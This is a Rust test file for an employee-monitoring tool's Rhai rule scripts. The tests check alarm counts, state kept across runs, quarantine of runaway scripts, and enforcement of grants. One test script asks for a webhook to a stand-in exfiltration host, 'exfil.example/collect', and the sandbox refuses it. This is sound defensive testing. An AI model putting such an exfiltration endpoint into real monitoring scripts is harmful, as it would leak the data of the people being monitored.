//! Rhai rule scripts through the real binary: the examples in examples/rhai over the example day,
//! state kept in the store across runs, hostile and broken scripts contained or refused.

use std::path::Path;

use crate::{alarms_on, root, stderr, stdout, vigilo, workday, workday_events};

fn rhai_pack() -> String {
    root()
        .join("examples/rhai")
        .to_str()
        .expect("p")
        .to_string()
}

/// Writes a pack holding one script `s.rhai` with `source`, and `extra` TOML for its entry.
fn pack_with_script(dir: &Path, name: &str, source: &str, extra: &str) -> String {
    let pack = dir.join(name);
    std::fs::create_dir_all(&pack).expect("mkdir");
    std::fs::write(pack.join("s.rhai"), source).expect("write script");
    std::fs::write(
        pack.join("pack.toml"),
        format!(
            "[pack]\nname = \"{name}\"\nversion = \"1.0.0\"\n\n[[script]]\nfile = \"s.rhai\"\n{extra}\n"
        ),
    )
    .expect("write pack");
    pack.to_str().expect("p").to_string()
}

fn usb_insert(ts: &str, user: &str, serial: &str) -> String {
    format!(
        r#"{{"ts":"{ts}","kind":"usb","username":"{user}","computer":"ws-{user}","action":"inserted","vendor_id":"0781","product_id":"5581","serial":"{serial}","device_class":"mass_storage"}}"#
    )
}

#[test]
fn the_after_hours_script_matches_an_independent_count() {
    let dir = tempfile::tempdir().expect("tempdir");
    // The oracle: first focus, per person and app, outside 09:00–17:00 on the (Monday) day.
    let mut seen: Vec<(String, &str)> = Vec::new();
    for e in workday_events().iter().filter(|e| e["kind"] == "activity") {
        let name = format!(
            "{} {}",
            e["executable"].as_str().unwrap_or(""),
            e["description"].as_str().unwrap_or("")
        )
        .to_lowercase();
        let Some(app) = ["keepassxc", "soffice"]
            .into_iter()
            .find(|a| name.contains(a))
        else {
            continue;
        };
        let ts = e["ts"].as_str().expect("ts");
        let hhmm = &ts[11..16];
        if ("09:00".."17:00").contains(&hhmm) {
            continue;
        }
        let key = (e["username"].as_str().expect("user").to_string(), app);
        if !seen.contains(&key) {
            seen.push(key);
        }
    }
    assert!(seen.len() > 10, "the example day has early and late work");

    let out = vigilo(
        dir.path(),
        &[
            "replay",
            "--no-default-pack",
            "--counts",
            "-",
            "--pack",
            &rhai_pack(),
            workday().to_str().expect("p"),
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        stdout(&out).contains(&format!(
            "rhai-examples:After-hours use of a sensitive application\t{}\n",
            seen.len()
        )),
        "{}",
        stdout(&out)
    );

    let check = vigilo(dir.path(), &["check", &rhai_pack()]);
    assert_eq!(check.status.code(), Some(0), "{}", stderr(&check));
    let text = stdout(&check);
    assert!(text.contains("0 alarms, 2 scripts, ok"), "{text}");
    assert!(
        text.contains(
            "script usb-devices 1.0.0 (usb-devices.rhai)  [subscribes to usb; deadline 50 ms; 50000 operations]"
        ),
        "{text}"
    );
}

#[test]
fn the_usb_devices_script_counts_across_runs_through_the_store() {
    let dir = tempfile::tempdir().expect("tempdir");
    let morning = dir.path().join("morning.jsonl");
    let afternoon = dir.path().join("afternoon.jsonl");
    std::fs::write(
        &morning,
        [
            usb_insert("2026-11-03T09:00:00Z", "dave", "S1"),
            usb_insert("2026-11-03T09:30:00Z", "dave", "S2"),
            usb_insert("2026-11-03T09:40:00Z", "dave", "S1"),
            usb_insert("2026-11-03T09:50:00Z", "erin", "S9"),
        ]
        .join("\n"),
    )
    .expect("write");
    std::fs::write(
        &afternoon,
        [
            usb_insert("2026-11-03T14:00:00Z", "dave", "S3"),
            usb_insert("2026-11-03T15:00:00Z", "dave", "S4"),
        ]
        .join("\n"),
    )
    .expect("write");
    let replay = |file: &Path| {
        vigilo(
            dir.path(),
            &[
                "replay",
                "--store",
                "--json",
                "--no-default-pack",
                "--pack",
                &rhai_pack(),
                file.to_str().expect("p"),
            ],
        )
    };
    let out = replay(&morning);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(stdout(&out), "", "two devices are not three");

    // A new run: the script starts from the state the store kept, so the third device counts.
    let out = replay(&afternoon);
    let fired: Vec<serde_json::Value> = stdout(&out)
        .lines()
        .map(|l| serde_json::from_str(l).expect("json"))
        .collect();
    assert_eq!(fired.len(), 1, "{}", stdout(&out));
    assert_eq!(fired[0]["alarm"], "Many USB storage devices in one day");
    assert_eq!(fired[0]["pack"], "rhai-examples");
    assert_eq!(
        fired[0]["note"],
        "dave plugged in 3 different storage devices on 2026-11-03: [\"S1\", \"S2\", \"S3\"]"
    );
    assert_eq!(fired[0]["fired_at"], "2026-11-03T14:00:00.000Z");
}

#[test]
fn a_runaway_script_is_switched_off_and_reported() {
    let dir = tempfile::tempdir().expect("tempdir");
    let source = "fn describe() { #{ name: \"spin\", version: \"1.0.0\", subscribes: [\"activity\"] } }\n\
                  fn on_event(event, settings) { loop { } }\n";
    // A deadline far off: the operation budget is what must stop it, however busy the machine.
    let pack = pack_with_script(dir.path(), "spinny", source, "deadline_ms = 1000");
    let out = vigilo(
        dir.path(),
        &[
            "replay",
            "--json",
            "--pack",
            &pack,
            workday().to_str().expect("p"),
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let notices = alarms_on(&out, "script_quarantined");
    assert_eq!(notices.len(), 1, "{}", stdout(&out));
    assert_eq!(notices[0]["alarm"], "Monitoring setup changed");
    assert_eq!(notices[0]["event"]["action_object"], "spinny/spin");
    assert_eq!(
        notices[0]["event"]["detail"],
        "the script was switched off: 3 faults in a row, the last: went over its budget: more \
         than 200000 operations in one call"
    );
    assert!(
        stdout(&out).contains("YouTube over 20 minutes"),
        "the built-in alarms carry on"
    );
}

#[test]
fn broken_scripts_are_refused_with_file_line_and_column() {
    let dir = tempfile::tempdir().expect("tempdir");
    let pack = pack_with_script(
        dir.path(),
        "broken",
        "fn describe() {\n  let x = ;\n}\n",
        "memory_mib = 4",
    );
    let out = vigilo(dir.path(), &["check", &pack]);
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(err.contains("broken/s.rhai:2:11: "), "{err}");
    assert!(
        err.contains(
            "pack.toml:7:14: memory_mib is for plugins; a script's budget is max_operations"
        ),
        "{err}"
    );

    let source =
        std::fs::read_to_string(root().join("examples/rhai/usb-devices.rhai")).expect("example");
    let pack = pack_with_script(dir.path(), "picky", &source, "config = \"limit = 1\"");
    let out = vigilo(dir.path(), &["check", &pack]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains(
            "pack picky: script s.rhai: rejected its configuration: limit: a whole number of at least 2, found 1"
        ),
        "{}",
        stderr(&out)
    );
}

#[test]
fn actions_beyond_the_grants_are_recorded_as_refused_not_performed() {
    let dir = tempfile::tempdir().expect("tempdir");
    let source = r#"fn describe() { #{ name: "greedy", version: "1.0.0", subscribes: ["usb"] } }
fn on_event(event, settings) {
    if event.action != "inserted" { return []; }
    [#{ alarm: "Greedy", risk: 3, actions: [
        #{ popup: #{ message: "hello" } },
        #{ webhook: #{ url: "https://exfil.example/collect" } },
        #{ webhook: #{ url: "https://siem.acme.example/hooks/usb" } },
        #{ terminate: () },
    ] }]
}"#;
    let pack = pack_with_script(dir.path(), "greedy", source, "");
    let manifest = Path::new(&pack).join("pack.toml");
    let text = std::fs::read_to_string(&manifest).expect("read");
    std::fs::write(
        &manifest,
        format!(
            "{text}\n[grants]\nactions = [\"popup\", \"webhook\"]\nwebhooks = [\"https://siem.acme.example/hooks/\"]\n"
        ),
    )
    .expect("write");
    let day = dir.path().join("day.jsonl");
    std::fs::write(&day, usb_insert("2026-11-03T09:00:00Z", "dave", "S1")).expect("write");
    let out = vigilo(
        dir.path(),
        &[
            "replay",
            "--store",
            "--no-default-pack",
            "--pack",
            &pack,
            day.to_str().expect("p"),
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("Greedy                          2 refused; popup, web…"),
        "{}",
        stdout(&out)
    );
    // Stored with the alarm: what ran within the grants, and what was refused and why.
    let listed = vigilo(dir.path(), &["alarms", "--all", "--json"]);
    let alarm: serde_json::Value =
        serde_json::from_str(stdout(&listed).trim()).expect("one alarm as JSON");
    let kinds: Vec<String> = alarm["actions"]
        .as_array()
        .expect("actions")
        .iter()
        .map(|a| {
            a.as_object()
                .expect("map")
                .keys()
                .next()
                .expect("kind")
                .clone()
        })
        .collect();
    assert_eq!(kinds, ["popup", "webhook"]);
    assert_eq!(
        alarm["actions"][1]["webhook"]["url"],
        "https://siem.acme.example/hooks/usb"
    );
    let refused = alarm["refused"].as_array().expect("refused");
    assert_eq!(refused.len(), 2);
    assert_eq!(
        refused[0]["reason"],
        "webhook \"https://exfil.example/collect\" is not a granted endpoint (granted: https://siem.acme.example/hooks/)"
    );
    assert_eq!(
        refused[1]["reason"],
        "`terminate` is not granted to this pack (its [grants] actions: popup, webhook)"
    );
}
